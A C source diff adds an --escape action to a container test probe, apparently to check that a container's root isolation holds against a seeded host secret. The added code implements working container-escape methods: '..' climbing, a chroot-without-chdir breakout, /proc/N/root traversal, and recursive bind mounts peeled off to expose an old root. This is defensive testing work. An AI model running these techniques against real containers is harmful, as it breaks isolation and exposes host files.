@@ -27,12 +27,14 @@
 #include <signal.h>
 #include <fcntl.h>
 #include <ifaddrs.h>
+#include <limits.h>
 #include <net/if.h>
 #include <stdbool.h>
 #include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/mount.h>
 #include <sys/resource.h>
 #include <sys/stat.h>
 #include <sys/utsname.h>
@@ -45,6 +47,9 @@
 #define ORPHAN_LIFETIME_MS 50 /* how long an orphaned grandchild lives */
 #define ORPHAN_SETTLE_MS 300  /* long enough for every grandchild to exit */
 #define ARRAY_SIZE(a) (sizeof(a) / sizeof((a)[0]))
+#define CLIMB_STEPS 64	      /* ".." steps: deeper than any real root */
+#define UNCOVER_STEPS 16      /* mounts peeled off an rbind, at most */
+#define ESCAPE_READ_MAX 4096  /* bytes of a reached file reported */
 
 extern char **environ;
 
@@ -404,6 +409,177 @@ static int act_print(const char *text)
 	return fflush(stdout) == 0 ? 0 : -1;
 }
 
+/*
+ * --escape PATH: try, as an attacker inside the container would, to read
+ * the host's file PATH (a test puts a random secret there).  Each way is
+ * tried in a child of its own, so a chroot or a mount made on the way
+ * changes nothing for the probe, and reports through a pipe what it read.
+ * The result lists every attempt ("how", "reached", and what it read);
+ * a container whose root is sound reaches the file by none of them.
+ *
+ *   dotdot        ".." from "/", CLIMB_STEPS times, then PATH relative
+ *   chroot-climb  chroot into a new directory without entering it: the
+ *                 cwd is then outside the root, and ".." climbs out of
+ *                 a chroot(2) jail (not out of pivot_root(2))
+ *   proc-root     /proc/N/root/PATH for every N in /proc: a process of
+ *                 the host, were one visible, lends its root
+ *   rbind         bind /proc/self/root/ (and "/") recursively on a new
+ *                 directory and peel its mounts off one by one: an old
+ *                 root left attached under the new one shows up there
+ */
+struct escape_try {
+	const char *how;
+	int (*attempt)(const char *path, int out); /* in a child: 0, or -1 */
+};
+
+/* Copy the file at path (relative to dirfd) to out; 0 if it was read. */
+static int reach(int dirfd, const char *path, int out)
+{
+	int fd = openat(dirfd, path, O_RDONLY | O_CLOEXEC);
+	char buf[ESCAPE_READ_MAX];
+	ssize_t n;
+
+	if (fd < 0)
+		return -1;
+	n = read(fd, buf, sizeof(buf));
+	close(fd);
+	if (n < 0 || write(out, buf, n) != n)
+		return -1;
+	return 0;
+}
+
+static void climb(void)
+{
+	for (int i = 0; i < CLIMB_STEPS; i++)
+		if (chdir("..") < 0)
+			break;
+}
+
+static int try_dotdot(const char *path, int out)
+{
+	if (chdir("/") < 0)
+		return -1;
+	climb();
+	return reach(AT_FDCWD, path + strspn(path, "/"), out);
+}
+
+/* A fresh directory for an attempt to work in: under /tmp when the image
+ * has one, else at the root. */
+static char *scratch_dir(char *buf, size_t len)
+{
+	snprintf(buf, len, "%s/.ddescape-XXXXXX", access("/tmp", W_OK) == 0 ? "/tmp" : "");
+	return mkdtemp(buf);
+}
+
+static int try_chroot_climb(const char *path, int out)
+{
+	char dir[64];
+
+	if (!scratch_dir(dir, sizeof(dir)))
+		return -1;
+	/* chroot without chdir: ".." from the cwd is no longer stopped by
+	 * the root, and the last chroot(".") makes the host's "/" ours. */
+	int rc = chdir("/") == 0 && chroot(dir) == 0 ? 0 : -1;
+	if (rc == 0) {
+		climb();
+		rc = chroot(".") == 0 ? reach(AT_FDCWD, path, out) : -1;
+	}
+	return rc;
+}
+
+static int try_proc_root(const char *path, int out)
+{
+	DIR *d = opendir("/proc");
+	struct dirent *de;
+	char where[PATH_MAX];
+	int rc = -1;
+
+	while (rc < 0 && d && (de = readdir(d))) {
+		if (parse_count(de->d_name) < 0 && strcmp(de->d_name, "self"))
+			continue;
+		snprintf(where, sizeof(where), "/proc/%s/root%s", de->d_name, path);
+		rc = reach(AT_FDCWD, where, out);
+	}
+	if (d)
+		closedir(d);
+	return rc;
+}
+
+static int try_rbind(const char *path, int out)
+{
+	static const char *const sources[] = {"/proc/self/root/", "/"};
+	char dir[64], where[PATH_MAX];
+
+	for (size_t i = 0; i < ARRAY_SIZE(sources); i++) {
+		if (!scratch_dir(dir, sizeof(dir)))
+			return -1;
+		if (mount(sources[i], dir, NULL, MS_BIND | MS_REC, NULL) < 0)
+			continue;
+		/* What is under the top mount at dir, one layer at a time. */
+		for (int k = 0; k < UNCOVER_STEPS; k++) {
+			snprintf(where, sizeof(where), "%s%s", dir, path);
+			if (reach(AT_FDCWD, where, out) == 0)
+				return 0;
+			snprintf(where, sizeof(where), "%s/proc/1/root%s", dir, path);
+			if (reach(AT_FDCWD, where, out) == 0)
+				return 0;
+			if (umount2(dir, MNT_DETACH) < 0)
+				break;
+		}
+	}
+	return -1;
+}
+
+static const struct escape_try escape_tries[] = {
+	{"dotdot", try_dotdot},
+	{"chroot-climb", try_chroot_climb},
+	{"proc-root", try_proc_root},
+	{"rbind", try_rbind},
+};
+
+static int act_escape(const char *path)
+{
+	int reached = 0;
+
+	json_str("path", path);
+	json_open("attempts", '[');
+	fflush(NULL); /* children must not inherit unwritten output */
+	for (size_t i = 0; i < ARRAY_SIZE(escape_tries); i++) {
+		int pipefd[2], status = 0;
+		size_t len = 0;
+		pid_t child;
+
+		if (pipe(pipefd) < 0)
+			return -1;
+		child = fork();
+		if (child < 0)
+			return -1;
+		if (child == 0) {
+			close(pipefd[0]);
+			_exit(escape_tries[i].attempt(path, pipefd[1]) == 0 ? 0 : 1);
+		}
+		close(pipefd[1]);
+		char *got = read_all(pipefd[0], &len);
+		close(pipefd[0]);
+		while (waitpid(child, &status, 0) < 0 && errno == EINTR)
+			;
+		bool ok = WIFEXITED(status) && WEXITSTATUS(status) == 0;
+		json_open(NULL, '{');
+		json_str("how", escape_tries[i].how);
+		json_bool("reached", ok);
+		if (ok && got)
+			json_strn("content", got, len);
+		if (WIFSIGNALED(status))
+			json_num("signal", WTERMSIG(status));
+		json_close('}');
+		reached += ok;
+		free(got);
+	}
+	json_close(']');
+	json_num("reached", reached);
+	return 0;
+}
+
 static bool any_text(const char *arg)
 {
 	return true;
@@ -420,6 +596,10 @@ static bool is_status(const char *arg)
 {
 	return is_count(arg) && parse_count(arg) <= 255;
 }
+static bool is_absolute(const char *arg)
+{
+	return arg[0] == '/';
+}
 
 /* clang-format off */
 static const struct action {
@@ -431,7 +611,7 @@ static const struct action {
 	{"--stat", act_stat, any_text},       {"--mkdir", act_mkdir, any_text},
 	{"--orphans", act_orphans, is_count}, {"--sleep", act_sleep, is_count},
 	{"--stdin", act_stdin, NULL},         {"--exit", act_exit, is_status},
-	{"--print", act_print, any_text},
+	{"--print", act_print, any_text},     {"--escape", act_escape, is_absolute},
 };
 /* clang-format on */
 
@@ -536,6 +716,7 @@ static void mount_line(char *line)
 	json_open(NULL, '{');
 	json_num("id", atol(field[0]));
 	json_num("parent", atol(field[1]));
+	json_str("dev", field[2]); /* "major:minor" of the file system */
 	json_str("root", field[3]);
 	json_str("target", field[4]);
 	json_str("source", field[dash + 2]);
@@ -829,7 +1010,8 @@ static void usage(FILE *f)
 {
 	fputs("Usage: ddprobe [ACTION...] [FACT...]\n"
 	      "Actions: --write PATH=TEXT, --read PATH, --stat PATH, --mkdir PATH,\n"
-	      "  --orphans N, --sleep MS, --stdin, --exit N, --print TEXT\n"
+	      "  --orphans N, --sleep MS, --stdin, --exit N, --print TEXT,\n"
+	      "  --escape HOSTPATH (every way out of the root tried, see the source)\n"
 	      "Facts: pid ppid uid gid euid egid hostname domainname cwd env ns\n"
 	      "  mounts procs zombies root uid_map gid_map cgroup limits caps fds\n"
 	      "  net stdin_tty stdout_tty (all of them when none is named)\n"
